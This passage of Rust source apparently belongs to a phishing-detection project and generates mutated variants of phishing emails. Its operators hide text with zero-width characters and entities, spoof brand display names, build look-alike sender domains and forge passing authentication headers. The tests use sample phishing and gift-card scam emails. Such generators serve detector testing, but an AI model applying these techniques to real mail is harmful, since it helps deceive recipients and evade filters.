                obfuscate_segment(raw, rng, &mut st, &mut out);
            }
            SegKind::Tag if seg.name == "body" => {
                in_body = !seg.closing;
                out.push_str(raw);
            }
            _ => out.push_str(raw),
        }
    }
    m.html = Some(out);
    let dropped = m.text.take().is_some();
    notes.push(format!(
        "html-obfuscate: {} zero-width character(s), {} letter(s) as numeric entities, {} word(s) split by empty spans, {} hidden filler span(s){}{}",
        st.zero_width,
        st.entities,
        st.spans,
        st.hidden,
        if created { "; HTML body made from the text body" } else { "" },
        if dropped { "; text/plain alternative dropped (the HTML is the only body)" } else { "" },
    ));
}

// ---- operators: sender ---------------------------------------------------------

struct Brand {
    /// Display form (`PayPal`, `Microsoft 365`).
    name: String,
    /// Lower-case ASCII label for domains (`paypal`, `microsoft`).
    label: String,
    /// The brand's own domain (`paypal.com`).
    domain: String,
}

fn capitalise(s: &str) -> String {
    let mut chars = s.chars();
    match chars.next() {
        Some(c) => c.to_uppercase().chain(chars).collect(),
        None => String::new(),
    }
}

/// How the message itself writes `label` (`PayPal` for `paypal`), when it
/// writes it with capitals as a word of its own.
fn brand_casing(m: &Model, label: &str) -> Option<String> {
    let name = m.from.as_ref().and_then(|f| f.name.clone());
    let sources = [name.as_deref(), m.text.as_deref(), m.html.as_deref()];
    for src in sources.into_iter().flatten() {
        let src = truncate(src, 64 * 1024);
        let lower = src.to_ascii_lowercase();
        for (p, _) in lower.match_indices(label) {
            let before = src.get(..p).and_then(|s| s.chars().last());
            let after = src.get(p + label.len()..).and_then(|s| s.chars().next());
            let word = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '.');
            if word(before) || word(after) {
                continue;
            }
            if let Some(found) = src.get(p..p + label.len())
                && found.chars().any(char::is_uppercase)
            {
                return Some(found.to_string());
            }
        }
    }
    None
}

fn brand(m: &Model, ctx: &MutateCtx) -> Brand {
    brand_scored(m, ctx).0
}

/// [`brand`] and how often the message names it (0: a fallback guess).
fn brand_scored(m: &Model, ctx: &MutateCtx) -> (Brand, usize) {
    if let Some(b) = ctx
        .brand
        .as_deref()
        .map(str::trim)
        .filter(|b| !b.is_empty())
    {
        let words: Vec<String> = b
            .split(|c: char| !c.is_ascii_alphanumeric())
            .filter(|w| !w.is_empty() && !w.bytes().all(|c| c.is_ascii_digit()))
            .map(str::to_ascii_lowercase)
            .collect();
        let mut label = words.concat();
        label.truncate(40);
        if label.is_empty() {
            label = "account".into();
        }
        return (
            Brand {
                name: b.to_string(),
                domain: format!("{label}.com"),
                label,
            },
            usize::MAX,
        );
    }
    // Candidates: the links' registrable domains, the words of the From
    // display name, the sender's domain. The one the message names most
    // often (as a word of the visible text, subject or display name) wins;
    // when none is named, the first link's domain.
    let usable = |d: &DomainParts| d.label.is_ascii() && !d.label.starts_with("xn--");
    let mut candidates: Vec<(String, String)> = Vec::new(); // (label, domain)
    fn add(candidates: &mut Vec<(String, String)>, label: String, domain: String) {
        if label.len() >= 3 && !candidates.iter().any(|(l, _)| *l == label) {
            candidates.push((label, domain));
        }
    }
    for d in collect_links(m)
        .iter()
        .take(MAX_LINKS)
        .filter_map(|u| link_domain(u))
    {
        if usable(&d) {
            add(&mut candidates, d.label.clone(), d.registrable());
        }
    }
    let links_end = candidates.len();
    let display = m
        .from
        .as_ref()
        .and_then(|f| f.name.clone())
        .unwrap_or_default();
    for word in display.split(|c: char| !c.is_ascii_alphanumeric()) {
        let w = word.to_ascii_lowercase();
        if !GENERIC_NAME_WORDS.split_whitespace().any(|g| g == w)
            && !w.bytes().all(|b| b.is_ascii_digit())
        {
            add(&mut candidates, w.clone(), format!("{w}.com"));
        }
    }
    if let Some(d) = m
        .from
        .as_ref()
        .and_then(|f| f.address.rsplit_once('@'))
        .and_then(|(_, d)| domain_parts(d))
        .filter(usable)
    {
        add(&mut candidates, d.label.clone(), d.registrable());
    }
    let visible = visible_text(m);
    let hay = [
        display.as_str(),
        m.subject.as_deref().unwrap_or(""),
        visible.as_str(),
    ];
    let scored: Vec<usize> = candidates
        .iter()
        .map(|(label, _)| hay.iter().map(|h| count_word(h, label)).sum())
        .collect();
    let best = scored
        .iter()
        .enumerate()
        .max_by_key(|&(i, &n)| (n, std::cmp::Reverse(i)))
        .filter(|&(_, &n)| n > 0)
        .map(|(i, _)| i)
        .or((links_end > 0).then_some(0))
        .or(candidates.len().checked_sub(1));
    match best.and_then(|i| {
        candidates
            .get(i)
            .map(|c| (c, scored.get(i).copied().unwrap_or(0)))
    }) {
        Some(((label, domain), named)) => (
            Brand {
                name: brand_casing(m, label).unwrap_or_else(|| capitalise(label)),
                label: label.chars().take(40).collect(),
                domain: domain.clone(),
            },
            named,
        ),
        None => (
            Brand {
                name: "Mail Administrator".into(),
                label: "mailadmin".into(),
                domain: "mailadmin.com".into(),
            },
            0,
        ),
    }
}

/// Display-name words that name no brand.
const GENERIC_NAME_WORDS: &str = "the and for team service services support security account accounts customer customers \
     care reply noreply mail email admin administrator info information notification \
     notifications billing help helpdesk desk center centre alert alerts update updates \
     online department dept office system systems message messages notice official inc ltd \
     llc corp from via on behalf of your payroll payment payments invoice invoices delivery \
     shipping verify verification secure webmail mailbox server manager hr it";

/// How often `word` (lower-case ASCII) stands as a word of `hay`.
fn count_word(hay: &str, word: &str) -> usize {
    let lower = hay.to_ascii_lowercase();
    lower
        .match_indices(word)
        .filter(|&(p, _)| {
            let before = lower.get(..p).and_then(|s| s.chars().last());
            let after = lower.get(p + word.len()..).and_then(|s| s.chars().next());
            !before.is_some_and(char::is_alphanumeric) && !after.is_some_and(char::is_alphanumeric)
        })
        .count()
}

/// The visible text of the message (the text body, else the HTML's text),
/// at most 64 KiB.
fn visible_text(m: &Model) -> String {
    if let Some(t) = &m.text {
        return truncate(t, 64 * 1024).to_string();
    }
    let mut out = String::new();
    if let Some(html) = &m.html {
        for seg in tokenize(html) {
            if seg.kind == SegKind::Text {
                out.push_str(&decode_entities(html.get(seg.start..seg.end).unwrap_or("")));
                out.push(' ');
                if out.len() > 64 * 1024 {
                    break;
                }
            }
        }
    }
    out
}

fn op_display_name(m: &mut Model, ctx: &MutateCtx, rng: &mut Rng, notes: &mut Vec<String>) {
    let b = brand(m, ctx);
    let name = match rng.below(4) {
        0 => format!("{} <security@{}>", b.name, b.domain),
        1 => format!("{} Security <no-reply@{}>", b.name, b.domain),
        2 => format!("{} Support", b.name),
        _ => format!("{} Account Services", b.name),
    };
    let current = m.new_from.clone().or_else(|| m.from.clone());
    let (old, address) = match &current {
        Some(f) => (
            match &f.name {
                Some(n) => format!("\"{n}\" <{}>", f.address),
                None => format!("<{}>", f.address),
            },
            f.address.clone(),
        ),
        None => ("no From".to_string(), format!("no-reply@{}", b.domain)),
    };
    notes.push(format!(
        "display-name: From {old} -> \"{name}\" <{address}> (brand {})",
        b.name
    ));
    m.new_from = Some(Mailbox {
        name: Some(name),
        address,
    });
}

/// `label` with its first o/l/i as a digit (0/1/1), if it has one.
fn leet(label: &str) -> Option<String> {
    let p = label.find(['o', 'l', 'i'])?;
    let digit = if label.get(p..p + 1) == Some("o") {
        "0"
    } else {
        "1"
    };
    Some(format!(
        "{}{digit}{}",
        label.get(..p).unwrap_or(""),
        label.get(p + 1..).unwrap_or("")
    ))
}

fn op_lookalike_sender(m: &mut Model, ctx: &MutateCtx, rng: &mut Rng, notes: &mut Vec<String>) {
    let b = brand(m, ctx);
    let l = &b.label;
    let mut candidates = vec![
        format!("{l}-account-security.com"),
        format!("{l}-support.net"),
        format!("{l}-secure-login.com"),
        format!("{l}-verify.com"),
        format!("{l}-online-service.com"),
        format!("secure-{l}.com"),
        format!("my{l}-account.com"),
        format!("{l}-helpdesk.net"),
    ];
    if let Some(leet) = leet(l) {
        candidates.push(format!("{leet}-support.net"));
        candidates.push(format!("{leet}.com"));
    }
    let original = m.sender_domain();
    candidates.retain(|d| Some(d) != original.as_ref() && *d != b.domain);
    let start = rng.below(candidates.len());
    let domain = candidates
        .get(start)
        .cloned()
        .unwrap_or_else(|| format!("{l}-notice-{}.com", rng.below(1000)));
    let locals = [
        "security", "no-reply", "account", "support", "service", "billing",
    ];
    let local = locals[rng.below(locals.len())];
    let current = m.new_from.clone().or_else(|| m.from.clone());
    let old = current
        .as_ref()
        .map_or_else(|| "no From".to_string(), |f| f.address.clone());
    let address = format!("{local}@{domain}");
    notes.push(format!(
        "lookalike-sender: From {old} -> {address} (look-alike of {})",
        b.domain
    ));
    m.new_from = Some(Mailbox {
        name: current
            .and_then(|f| f.name)
            .or_else(|| Some(b.name.clone())),
        address,
    });
    let reply = m.new_reply_to.clone().or_else(|| m.reply_to.clone());
    if let Some(r) = reply {
        let other =
            locals[(locals.iter().position(|x| *x == local).unwrap_or(0) + 1) % locals.len()];
        let address = format!("{other}@{domain}");
        notes.push(format!(
            "lookalike-sender: Reply-To {} -> {address}",
            r.address
        ));
        m.new_reply_to = Some(Mailbox {
            name: r.name,
            address,
        });
    }
}

// ---- the benign twin -----------------------------------------------------------

/// The `authserv-id` of the Authentication-Results header a twin carries.
pub const TWIN_AUTHSERV_ID: &str = "mx.twin.example";

/// The benign twin of a phishing message that impersonates a brand: the
/// same text, sent by the brand itself (see [`Op::BenignTwin`]). `None` when
/// the message is unparseable or impersonates no brand identified with
/// reasonable confidence: skip it, no brand is made up. Deterministic.
pub fn benign_twin(raw: &[u8]) -> Option<Vec<u8>> {
    let seed = fnv(raw);
    let rewriter = BuiltinRewriter { seed };
    let ctx = MutateCtx::new(&rewriter, seed);
    mutate(raw, &[Op::BenignTwin], &ctx).ok().map(|m| m.bytes)
}

/// The brand a twin is sent by.
#[derive(Debug)]
struct TwinBrand {
    name: String,
    /// The registrable domain its mail and links use (`paypal.com`).
    domain: String,
    /// Registrable domains it owns (links there are left alone).
    owned: Vec<String>,
    /// How it was found, for the notes.
    how: String,
}

/// The default deployment context (the brand catalogue), built once.
fn catalogue_context() -> &'static outwork_core::context::Context {
    static CTX: std::sync::OnceLock<outwork_core::context::Context> = std::sync::OnceLock::new();
    CTX.get_or_init(outwork_core::context::Context::default)
}

fn catalogue_twin(b: &outwork_core::brand::Brand, how: String) -> Option<TwinBrand> {
    // The first of its domains that is itself registrable (HMRC lists
    // gov.uk, a public suffix, before hmrc.gov.uk).
    let domain = b
        .domains
        .iter()
        .find(|d| domain_parts(d).is_some_and(|p| p.prefix.is_empty() && p.registrable() == **d))?;
    Some(TwinBrand {
        name: b.name.to_string(),
        domain: domain.to_string(),
        owned: b.domains.iter().map(|d| d.to_string()).collect(),
        how,
    })
}

/// Which brand the message impersonates, if that can be told with
/// reasonable confidence: the catalogue brand its From display name claims
/// (as the engine reads it), else the catalogue brand it names most (at
/// least twice in subject and visible text, or once in the subject, or
/// with a link or the sender on the brand's own domain), else the guess
/// the sender operators make ([`brand`]) when the message names it at
/// least twice.
fn twin_brand(m: &Model, ctx: &MutateCtx) -> Option<TwinBrand> {
    let cctx = catalogue_context();
    let brands = &cctx.brands;
    if let Some(given) = ctx
        .brand
        .as_deref()
        .map(str::trim)
        .filter(|b| !b.is_empty())
    {
        if let Some(b) = brands.iter().find(|b| b.name.eq_ignore_ascii_case(given)) {
            return catalogue_twin(b, "given".into());
        }
        let b = brand(m, ctx);
        return Some(TwinBrand {
            name: b.name,
            owned: vec![b.domain.clone()],
            domain: b.domain,
            how: "given".into(),
        });
    }
    let display = m
        .from
        .as_ref()
        .and_then(|f| f.name.clone())
        .unwrap_or_default();
    if !display.is_empty()
        && let Some(b) =
            outwork_core::signals::sender::claimed_brand(&display, cctx).and_then(|i| brands.get(i))
        && let Some(t) = catalogue_twin(b, format!("the From display name {display:?}"))
    {
        return Some(t);
    }
    let subject = m.subject.as_deref().unwrap_or("");
    let visible = visible_text(m);
    let link_regs: Vec<String> = collect_links(m)
        .iter()
        .filter_map(|u| link_domain(u))
        .map(|d| d.registrable())
        .collect();
    let sender_reg = m
        .from
        .as_ref()
        .and_then(|f| f.address.rsplit_once('@'))
        .and_then(|(_, d)| domain_parts(d))
        .map(|d| d.registrable());
    let owns = |b: &outwork_core::brand::Brand, reg: &str| {
        b.domains
            .iter()
            .any(|d| reg == *d || reg.ends_with(&format!(".{d}")))
    };
    // One pass of the catalogue's automaton over subject and text, not a
    // loop over thousands of brands.
    let in_subject = cctx.brand_matcher.counts(subject, 4096);
    let in_text = cctx.brand_matcher.counts(&visible, 64 * 1024);
    let count = |v: &[(usize, usize)], i: usize| v.iter().find(|(b, _)| *b == i).map_or(0, |x| x.1);
    let mut candidates: Vec<usize> = in_subject.iter().chain(&in_text).map(|x| x.0).collect();
    candidates.sort_unstable();
    candidates.dedup();
    let mut best: Option<(usize, usize)> = None; // (score, brand index)
    for i in candidates {
        let Some(b) = brands.get(i) else { continue };
        let (in_subject, in_text) = (count(&in_subject, i), count(&in_text, i));
        let own_links = link_regs.iter().filter(|r| owns(b, r)).count();
        let own_sender = sender_reg.as_deref().is_some_and(|r| owns(b, r));
        let named = in_subject + in_text;
        let confident =
            named >= 2 || in_subject >= 1 || (named >= 1 && (own_links > 0 || own_sender));
        if !confident {
            continue;
        }
        let score = named + own_links.min(3) + usize::from(own_sender);
        if best.is_none_or(|(s, _)| score > s) {
            best = Some((score, i));
        }
    }
    if let Some((n, i)) = best
        && let Some(b) = brands.get(i)
        && let Some(t) = catalogue_twin(b, format!("named {n} times in subject, text and links"))
    {
        return Some(t);
    }
    // Not in the catalogue: the sender operators' guess, when the message
    // names it at least twice and it is not a mailbox or hosting provider.
    let (b, named) = brand_scored(m, ctx);
    let generic = |d: &str| {
        outwork_core::lists::FREEMAIL
            .iter()
            .chain(outwork_core::lists::FREE_HOSTING)
            .chain(outwork_core::lists::SHORTENERS)
            .chain(outwork_core::lists::ESP_DOMAINS)
            .any(|g| d == *g || d.ends_with(&format!(".{g}")))
    };
    // A domain made up from a display-name word is believed only when the
    // name does not read as a person's ("Mr. Wood", "Philip Fredrick").
    let real_domain =
        link_regs.contains(&b.domain) || sender_reg.as_deref() == Some(b.domain.as_str());
    if !real_domain && person_like(&display) {
        return None;
    }
    (named >= 2 && !generic(&b.domain) && domain_parts(&b.domain).is_some()).then(|| TwinBrand {
        how: format!(
            "{:?} named {named} times (not in the brand catalogue)",
            b.name
        ),
        name: b.name,
        owned: vec![b.domain.clone()],
        domain: b.domain,
    })
}

/// A display name that reads as a person's: an honorific, or two or three
/// title-case words.
fn person_like(name: &str) -> bool {
    let words: Vec<&str> = name
        .split(|c: char| c.is_whitespace() || c == '.' || c == ',')
        .filter(|w| !w.is_empty())
        .collect();
    let honorific = words.iter().any(|w| {
        matches!(
            w.to_lowercase().as_str(),
            "mr" | "mrs" | "ms" | "miss" | "dr" | "sir" | "madam" | "prof" | "barrister" | "rev"
        )
    });
    let title_case = |w: &&str| {
        let mut c = w.chars();
        c.next().is_some_and(char::is_uppercase) && c.all(char::is_lowercase)
    };
    honorific || ((2..=3).contains(&words.len()) && words.iter().all(title_case))
}

/// A local part kept when it is plain, else `fallback`.
fn plain_local(address: &str, fallback: &str) -> String {
    let local = address.rsplit_once('@').map_or("", |(l, _)| l);
    if !local.is_empty()
        && local.len() <= 40
        && local
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"._-+".contains(&b))
    {
        local.to_string()
    } else {
        fallback.to_string()
    }
}

/// Header fields a twin never carries: authentication verdicts written for
/// the original (a twin has its own), signatures that no longer verify.
fn auth_header(name: &str) -> bool {
    name.contains("authentication-results")
        || name.starts_with("arc-")
        || name == "dkim-signature"
        || name == "domainkey-signature"
        || name == "x-google-dkim-signature"
        || name == "received-spf"
}

fn op_benign_twin(
    m: &mut Model,
    ctx: &MutateCtx,
    notes: &mut Vec<String>,
) -> Result<(), MutateError> {
    let t = twin_brand(m, ctx)
        .ok_or_else(|| MutateError::NotApplicable("no impersonated brand identified".into()))?;
    let domain = t.domain.clone();
    notes.push(format!(
        "benign-twin: sent by {} ({domain}), brand from {}",
        t.name, t.how
    ));

    // Sender: the brand's own domain, the display name kept unless it
    // carries an address of its own.
    let current = m.new_from.clone().or_else(|| m.from.clone());
    let name = current
        .as_ref()
        .and_then(|f| f.name.clone())
        .filter(|n| !n.contains('@'))
        .unwrap_or_else(|| t.name.clone());
    let local = current.as_ref().map_or_else(
        || "no-reply".to_string(),
        |f| plain_local(&f.address, "no-reply"),
    );
    let from = Mailbox {
        name: Some(name),
        address: format!("{local}@{domain}"),
    };
    notes.push(format!(
        "benign-twin: From {} -> {}",
        current.as_ref().map_or("none", |f| f.address.as_str()),
        from.address
    ));
    let reply = m.new_reply_to.clone().or_else(|| m.reply_to.clone());
    if let Some(r) = reply {
        m.new_reply_to = Some(Mailbox {
            name: r.name,
            address: format!("{}@{domain}", plain_local(&r.address, "support")),
        });
    }
    m.new_from = Some(from.clone());

    // Headers: no authentication of the original, Return-Path and Sender on
    // the brand's domain, one trusted passing Authentication-Results on top.
    let before = m.headers.len();
    m.headers.retain(|(name, _)| !auth_header(name));
    let dropped = before - m.headers.len();
    let mut return_path = false;
    for (name, line) in m.headers.iter_mut() {
        match name.as_str() {
            "return-path" => {
                *line = format!("Return-Path: <bounce@{domain}>\r\n").into_bytes();
                return_path = true;
            }
            "sender" => {
                let mut out = Vec::new();
                write_address(&mut out, "Sender", &from);
                *line = out;
            }
            _ => {}
        }
    }
    if !return_path {
        m.headers.insert(
            0,
            (
                "return-path".into(),
                format!("Return-Path: <bounce@{domain}>\r\n").into_bytes(),
            ),
        );
    }
    m.headers.insert(
        0,
        (
            "authentication-results".into(),
            format!(
                "Authentication-Results: {TWIN_AUTHSERV_ID}; spf=pass smtp.mailfrom={domain};\r\n dkim=pass header.d={domain}; dmarc=pass header.from={domain}\r\n"
            )
            .into_bytes(),
        ),
    );
    notes.push(format!(
        "benign-twin: {dropped} authentication header(s) removed, SPF/DKIM/DMARC pass for {domain} on top"
    ));

    // Links: every host not the brand's own becomes the brand's domain
    // (https, path, query and fragment kept).
    let owned = |host: &str| {
        let h = host.trim_end_matches('.').to_ascii_lowercase();
        t.owned
            .iter()
            .any(|d| h == *d || h.ends_with(&format!(".{d}")))
    };
    let mut map = HashMap::new();
    for url in collect_links(m) {
        let Some(range) = url_host_range(&url) else {
            continue;
        };
        let Some(host) = url.get(range.clone()) else {
            continue;
        };
        if owned(host) {
            continue;
        }
        // Past a port, if any.
        let rest = url.get(range.end..).unwrap_or("");
        let port = rest
            .strip_prefix(':')
            .map_or(0, |p| 1 + p.bytes().take_while(u8::is_ascii_digit).count());
        let tail = rest.get(port..).unwrap_or("");
        let new = format!("https://{domain}{tail}");
        let mut visible = vec![(host.to_string(), domain.clone())];
        let unicode = idna::domain_to_unicode(host).0;
        if unicode != host {
            visible.push((unicode, domain.clone()));
        }
        map.insert(
            url.clone(),
            Change {
                href: new.clone(),
                text: new,
                visible,
            },
        );
    }
    let links = map.len();
    if links > 0 {
        apply_link_changes(m, &map);
    }

    // No payload: attachments other than inline images go, and so does
    // any image holding a QR code; no script in the HTML.
    let qr = |p: &Part| {
        p.content_type.starts_with("image/") && !outwork_inspect::qr::decode(&p.bytes).is_empty()
    };
    let keep = |p: &Part| p.inline && p.content_type.starts_with("image/") && !qr(p);
    let before = m.attachments.len() + m.related.len();
    m.attachments.retain(keep);
    m.related.retain(keep);
    let removed = before - m.attachments.len() - m.related.len();
    let mut scripts = 0;
    if let Some(html) = &m.html {
        let mut out = String::with_capacity(html.len());
        let mut in_script = false;
        for seg in tokenize(html) {
            let raw = html.get(seg.start..seg.end).unwrap_or("");
            if seg.kind == SegKind::Tag && seg.name == "script" {
                in_script = !seg.closing;
                scripts += usize::from(!seg.closing);
                continue;
            }
            if !in_script {
                out.push_str(raw);
            }
        }
        m.html = Some(out);
    }
    notes.push(format!(
        "benign-twin: {links} link(s) moved to {domain}, {removed} attachment(s) or QR image(s) removed, {scripts} script(s) removed"
    ));
    Ok(())
}

// ---- tests ---------------------------------------------------------------------

#[cfg(test)]
mod tests {
    use super::*;
    use mail_parser::{Message, MessageParser};
    use std::io::{BufRead, BufReader};
    use std::net::TcpListener;

    const MULTI: &str = "Received: from mail.evil.example (mail.evil.example [203.0.113.5])\r\n\tby mx.victim.example with ESMTP id 4F2A1; Tue, 2 Jan 2024 10:00:00 +0000\r\n\
Return-Path: <bounce@evil.example>\r\n\
From: \"PayPal Service\" <service@paypal-alerts.example>\r\n\
Reply-To: help@paypal-alerts.example\r\n\
To: alice@victim.example\r\n\
Subject: Your account has been suspended\r\n\
Date: Tue, 2 Jan 2024 10:00:00 +0000\r\n\
Message-ID: <abc123@evil.example>\r\n\
X-Mailer: PhishKit 2.0\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/alternative; boundary=\"b1\"\r\n\
\r\n\
--b1\r\n\
Content-Type: text/plain; charset=utf-8\r\n\
\r\n\
Dear customer,\r\n\
\r\n\
We detected unusual activity on your account. Your account has been suspended. Please verify your identity immediately. Failure to confirm within 24 hours will result in permanent closure. Thank you for your cooperation.\r\n\
\r\n\
Verify now: https://www.paypal.com/signin?country=US&locale=en\r\n\
Help: https://support.paypal.com/help\r\n\
\r\n\
PayPal Security\r\n\
--b1\r\n\
Content-Type: text/html; charset=iso-8859-1\r\n\
Content-Transfer-Encoding: quoted-printable\r\n\
\r\n\
<html><head><meta http-equiv=3D\"Content-Type\" content=3D\"text/html; charset=3Diso-8859-1\"><title>PayPal</title></head><body>\r\n\
<p>Dear customer,</p><p>We detected unusual activity on your account. Your account has been suspended. Please verify your identity immediately. Failure to confirm within 24 hours will result in permanent closure. Thank you for your cooperation.</p>\r\n\
<p><a href=3D\"https://www.paypal.com/signin?country=3DUS&amp;locale=3Den\">Verify now</a></p>\r\n\
<p>Help: <a href=3D'https://support.paypal.com/help'>support.paypal.com</a></p>\r\n\
<p>PayPal Security &copy; 2024</p></body></html>\r\n\
--b1--\r\n";

    const LINK1: &str = "https://www.paypal.com/signin?country=US&locale=en";
    const LINK2: &str = "https://support.paypal.com/help";

    const TEXT_ONLY: &str = "From: Billing <billing@account-verify.com>\n\
To: bob@victim.example\n\
Subject: Invoice overdue\n\
Date: Wed, 3 Jan 2024 08:00:00 +0000\n\
Message-ID: <t1@account-verify.com>\n\
\n\
Hello,\n\
\n\
Your invoice is overdue. Review the payment at http://account-verify.com/login?id=42 today.\n\
\n\
Regards\n";

    const TEXT_LINK: &str = "http://account-verify.com/login?id=42";

    const WITH_ATTACHMENT: &str = "From: HR <hr@corp-payroll.com>\r\n\
To: carol@victim.example\r\n\
Subject: Salary review\r\n\
Date: Thu, 4 Jan 2024 09:00:00 +0000\r\n\
Message-ID: <att1@corp-payroll.com>\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"mix\"\r\n\
\r\n\
--mix\r\n\
Content-Type: text/plain; charset=us-ascii\r\n\
\r\n\
Please review your new salary at https://corp-payroll.com/review and sign.\r\n\
--mix\r\n\
Content-Type: application/pdf; name=\"salary.pdf\"\r\n\
Content-Disposition: attachment; filename=\"salary.pdf\"\r\n\
Content-Transfer-Encoding: base64\r\n\
\r\n\
JVBERi0xLjQKJcOkw7zDtsOfCjIgMCBvYmoKPDwvTGVuZ3RoIDMgMCBSPj4Kc3RyZWFtCg==\r\n\
--mix--\r\n";

    const NO_LINKS: &str = "From: Boss <boss@company.example>\r\n\
To: dave@company.example\r\n\
Subject: Quick favour\r\n\
Date: Fri, 5 Jan 2024 11:00:00 +0000\r\n\
Message-ID: <nl1@company.example>\r\n\
\r\n\
Are you at your desk? I need you to buy gift cards urgently. Reply to this email.\r\n";

    fn garbage() -> Vec<u8> {
        (0..4000u32)
            .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
            .collect()
    }

    fn run_seed(raw: &str, ops: &[Op], seed: u64) -> Mutated {
        let rw = BuiltinRewriter { seed: 7 };
        let ctx = MutateCtx::new(&rw, seed);
        mutate(raw.as_bytes(), ops, &ctx).unwrap()
    }

    fn run(raw: &str, ops: &[Op]) -> Mutated {
        run_seed(raw, ops, 42)
    }

    fn parse(bytes: &[u8]) -> Message<'_> {
        MessageParser::default().parse(bytes).unwrap()
    }

    fn html_of(msg: &Message) -> String {
        msg.html_bodies()
            .find(|p| p.is_text_html())
            .and_then(|p| p.text_contents())
            .unwrap_or("")
            .to_string()
    }

    fn text_of(msg: &Message) -> String {
        msg.text_bodies()
            .find(|p| matches!(p.body, PartType::Text(_)))
            .and_then(|p| p.text_contents())
            .unwrap_or("")
            .to_string()
    }

    fn hrefs(html: &str) -> Vec<String> {
        tokenize(html)
            .into_iter()
            .filter(|s| s.kind == SegKind::Tag && s.name == "a" && !s.closing)
            .filter_map(|s| attr_value(&html[s.start..s.end], "href"))
            .collect()
    }

    fn host(url: &str) -> String {
        url_host_range(url).map(|r| url[r].to_string()).unwrap()
    }

    #[test]
    fn op_names_round_trip() {
        assert_eq!(Op::ALL.len(), 12);
        assert!(!Op::ALL.contains(&Op::Identity));
        for &op in std::iter::once(&Op::Identity).chain(Op::ALL) {
            assert_eq!(Op::parse(op.name()), Some(op));
            assert_eq!(
                Op::parse(&op.name().to_uppercase().replace('-', "_")),
                Some(op)
            );
            assert!(!op.describe().is_empty());
        }
        assert_eq!(Op::parse("nope"), None);
        assert_eq!(Op::HtmlObfuscate.to_string(), "html-obfuscate");
    }

    #[test]
    fn identity_keeps_headers_bodies_and_links() {
        let out = run(MULTI, &[Op::Identity]);
        let s = String::from_utf8_lossy(&out.bytes);
        assert!(s.starts_with("Received: from mail.evil.example"), "{s}");
        assert!(s.contains("\tby mx.victim.example with ESMTP id 4F2A1"));
        assert!(s.contains("X-Mailer: PhishKit 2.0\r\n"));
        assert!(s.contains("Date: Tue, 2 Jan 2024 10:00:00 +0000\r\n"));
        assert!(s.contains("Message-ID: <abc123@evil.example>\r\n"));
        assert_eq!(s.matches("MIME-Version").count(), 1);
        assert!(!s.contains("boundary=\"b1\""));
        let msg = parse(&out.bytes);
        assert_eq!(msg.subject(), Some("Your account has been suspended"));
        let from = msg.from().unwrap().first().unwrap();
        assert_eq!(from.name.as_deref(), Some("PayPal Service"));
        assert_eq!(
            from.address.as_deref(),
            Some("service@paypal-alerts.example")
        );
        assert!(msg.received().unwrap().from().is_some());
        let html = html_of(&msg);
        assert_eq!(hrefs(&html), vec![LINK1.to_string(), LINK2.to_string()]);
        assert!(html.contains("charset=utf-8"), "{html}");
        assert!(html.contains("&copy; 2024"), "{html}");
        let text = text_of(&msg);
        assert!(text.contains(LINK1) && text.contains(LINK2), "{text}");
        assert_eq!(out.notes, vec!["identity: rebuilt without changes"]);
    }

    #[test]
    fn identity_keeps_attachments_and_plain_text() {
        let out = run(WITH_ATTACHMENT, &[Op::Identity]);
        let msg = parse(&out.bytes);
        assert_eq!(msg.attachment_count(), 1);
        let att = msg.attachment(0).unwrap();
        assert_eq!(att.attachment_name(), Some("salary.pdf"));
        assert!(att.is_content_type("application", "pdf"));
        assert!(att.contents().starts_with(b"%PDF-1.4"));
        assert!(text_of(&msg).contains("https://corp-payroll.com/review"));

        let out = run(TEXT_ONLY, &[Op::Identity]);
        let s = String::from_utf8_lossy(&out.bytes);
        assert!(s.contains("Subject: Invoice overdue\r\n"), "{s}");
        let msg = parse(&out.bytes);
        assert_eq!(msg.html_body_count(), 1); // mail-parser's view of the text part
        assert!(html_of(&msg).is_empty());
        assert!(text_of(&msg).contains(TEXT_LINK));
    }

    #[test]
    fn identity_keeps_nested_messages_and_inline_parts() {
        let raw = "From: a@fwd.example\r\nSubject: Fwd: invoice\r\nMessage-ID: <n1@fwd.example>\r\n\
Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n\
--m\r\nContent-Type: text/plain\r\n\r\nSee below https://fwd-docs.example/x\r\n\
--m\r\nContent-Type: image/gif\r\nContent-Disposition: inline; filename=\"dot.gif\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\nR0lGODlhAQABAAAAACw=\r\n\
--m\r\nContent-Type: message/rfc822\r\n\r\n\
From: inner@bank.example\r\nSubject: Inner subject\r\n\r\nInner body\r\n\
--m--\r\n";
        let out = run(raw, &[Op::Identity]);
        let msg = parse(&out.bytes);
        let nested = msg
            .attachments()
            .find_map(|p| p.message())
            .expect("nested message");
        assert_eq!(nested.subject(), Some("Inner subject"));
        assert!(nested.body_text(0).unwrap().contains("Inner body"));
        let gif = msg
            .attachments()
            .find(|p| p.is_content_type("image", "gif"))
            .expect("gif");
        assert!(gif.contents().starts_with(b"GIF89a"));
        assert!(gif.content_disposition().unwrap().is_inline());
        let out2 = run(raw, &[Op::Qr]);
        let msg2 = parse(&out2.bytes);
        assert_eq!(
            msg2.attachments().filter(|p| p.message().is_some()).count(),
            1
        );
    }

    #[test]
    fn boundaries_never_collide_with_the_content() {
        // A message whose text quotes the exact boundary a rebuild would use.
        let inner = String::from_utf8(run(MULTI, &[Op::Identity]).bytes).unwrap();
        let boundary = inner
            .split("boundary=\"")
            .nth(1)
            .and_then(|s| s.split('"').next())
            .unwrap()
            .to_string();
        let raw = format!(
            "From: x@y.example\r\nSubject: quoting\r\nContent-Type: text/html\r\n\r\n<p>--{boundary}</p><p><a href=\"https://q.example/\">q</a></p>\r\n"
        );
        let out = run(&raw, &[Op::Qr]);
        let s = String::from_utf8_lossy(&out.bytes);
        assert!(!s.contains(&format!("boundary=\"{boundary}\"")), "{s}");
        let msg = parse(&out.bytes);
        assert!(html_of(&msg).contains(&format!("--{boundary}")));
        assert_eq!(decode_qr(qr_part(&msg).0), "https://q.example/");
    }

    #[test]
    fn mbox_line_and_bare_lf_are_handled() {
        let raw = format!("From someone@example.com Mon Jan  1 00:00:00 2024\n{TEXT_ONLY}");
        let out = run(&raw, &[Op::Identity]);
        let s = String::from_utf8_lossy(&out.bytes);
        assert!(
            s.starts_with("From: Billing <billing@account-verify.com>\r\n"),
